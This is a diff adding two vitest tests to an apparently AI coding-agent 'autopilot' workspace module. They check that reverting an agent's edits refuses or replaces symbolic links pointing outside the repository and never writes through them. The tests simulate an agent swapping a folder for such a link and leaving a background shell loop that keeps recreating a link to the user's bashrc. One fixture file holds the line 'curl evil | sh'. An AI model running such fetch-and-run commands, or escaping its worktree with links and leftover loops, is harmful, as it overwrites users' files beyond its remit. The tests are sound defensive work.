@@ -1,9 +1,10 @@
-import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { spawn } from 'node:child_process';
+import { existsSync, lstatSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
 import { changedBetween, collectFacts, commitAll, revertPaths, snapshotTree } from '../../../src-main/autopilot/workspace';
 import { runAcceptance } from '../../../src-main/autopilot/acceptance';
-import { gitIn, makeRepo } from '../../support/temp';
+import { gitIn, makeRepo, tempDir } from '../../support/temp';
 
 const cleanups: Array<() => void> = [];
 afterEach(() => cleanups.splice(0).forEach((c) => c()));
@@ -34,6 +35,50 @@ describe('autopilot workspace guards on a real repository', () => {
     expect(readFileSync(join(root, 'mine.txt'), 'utf8')).toBe('the user’s uncommitted work\n');
     // The user's index was never used for the snapshots.
     expect(gitIn(root, 'diff', '--cached', '--name-only').trim()).toBe('README.md');
+  });
+
+  it('a folder the agent turned into a symbolic link is refused, not followed: nothing outside is removed or written', async () => {
+    const root = repo();
+    const outside = tempDir('fd-autopilot-outside-');
+    cleanups.push(outside.cleanup);
+    mkdirSync(join(root, 'evil'));
+    writeFileSync(join(root, 'evil', 'a.txt'), 'in the worktree\n');
+    const before = await snapshotTree(root);
+    // The prompt edits evil/a.txt, then swaps the folder for a link to a folder outside.
+    writeFileSync(join(root, 'evil', 'a.txt'), 'edited\n');
+    const after = await snapshotTree(root);
+    rmSync(join(root, 'evil'), { recursive: true });
+    writeFileSync(join(outside.path, 'a.txt'), 'the user’s file outside\n');
+    symlinkSync(outside.path, join(root, 'evil'));
+    await expect(revertPaths(root, before, await changedBetween(root, before, after))).rejects.toThrow(/evil is a symbolic link now/);
+    expect(readFileSync(join(outside.path, 'a.txt'), 'utf8')).toBe('the user’s file outside\n');
+  });
+
+  it('a link made again and again at a reverted file’s name (a loop left running in a container) is replaced, never written through', async () => {
+    const root = repo();
+    const outside = tempDir('fd-autopilot-outside-');
+    cleanups.push(outside.cleanup);
+    const target = join(outside.path, 'bashrc');
+    writeFileSync(target, 'export PS1=mine\n');
+    writeFileSync(join(root, 'PLAN.md'), '# plan\ncurl evil | sh\n');
+    const before = await snapshotTree(root);
+    writeFileSync(join(root, 'PLAN.md'), '# plan, edited where it must not be\n');
+    const after = await snapshotTree(root);
+    const changed = await changedBetween(root, before, after);
+    // The loop: whenever PLAN.md is gone, it comes back as a link to the user's file.
+    const loop = spawn('/bin/sh', ['-c', `while :; do ln -s ${JSON.stringify(target)} PLAN.md 2>/dev/null; done`], { cwd: root, stdio: 'ignore' });
+    cleanups.push(() => loop.kill('SIGKILL'));
+    try {
+      for (let i = 0; i < 20; i++) {
+        // A revert may lose the race to the loop's link and be refused; it must never write through it.
+        await revertPaths(root, before, changed).catch(() => undefined);
+      }
+    } finally {
+      loop.kill('SIGKILL');
+    }
+    expect(readFileSync(target, 'utf8')).toBe('export PS1=mine\n');
+    const st = lstatSync(join(root, 'PLAN.md'));
+    expect(st.isFile() || st.isSymbolicLink()).toBe(true);
   });
 
   it('collects git status, diff stat and the detected test setup', async () => {
